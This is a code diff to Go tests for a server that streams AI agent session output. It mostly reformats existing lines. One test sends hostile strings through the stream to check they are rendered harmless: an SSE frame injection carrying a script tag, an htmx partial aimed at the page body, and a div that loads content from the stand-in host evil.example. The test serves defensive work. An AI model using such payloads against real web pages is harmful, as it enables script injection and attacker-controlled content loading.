@@ -154,7 +154,10 @@ func TestAReaderFarBehindCatchesUpInOrder(t *testing.T) {
 func TestAnAnswerChangesTheRowOfItsCall(t *testing.T) {
 	s := newSite(t)
 	base := served(t, s)
-	_, ids := s.Chain(ops.NewCycle{}, "", "", apitest.Run{Tier: 1, Status: ops.SessionRunning, Lines: []string{said("x"), call("a", "sleep 9")}})
+	_, ids := s.Chain(ops.NewCycle{}, "", "", apitest.Run{
+		Tier: 1, Status: ops.SessionRunning,
+		Lines: []string{said("x"), call("a", "sleep 9")},
+	})
 	stream := follow(t, base, fmt.Sprintf("/sessions/%d/stream?after=2", ids[0]), "")
 	s.Say(ids[0], answered("a", "slept", false))
 	got := stream.until("slept")
@@ -232,7 +235,8 @@ func TestHostileOutputIsHarmlessInAStream(t *testing.T) {
 	base := served(t, s)
 	_, ids := s.Chain(ops.NewCycle{}, "", "", apitest.Run{Tier: 1, Status: ops.SessionRunning})
 	stream := follow(t, base, fmt.Sprintf("/sessions/%d/stream?after=0", ids[0]), "")
-	for _, text := range append(hostile(), "a\r\ndata: <script>\r\n\r\nevent: x", `<hx-partial hx-target="body">`, `<div hx-get="//evil.example" hx-trigger="load">`) {
+	for _, text := range append(hostile(), "a\r\ndata: <script>\r\n\r\nevent: x", `<hx-partial hx-target="body">`,
+		`<div hx-get="//evil.example" hx-trigger="load">`) {
 		s.Say(ids[0], said(text), text, call(text, text), answered(text, text, true))
 	}
 	s.Say(ids[0], said("the end."))
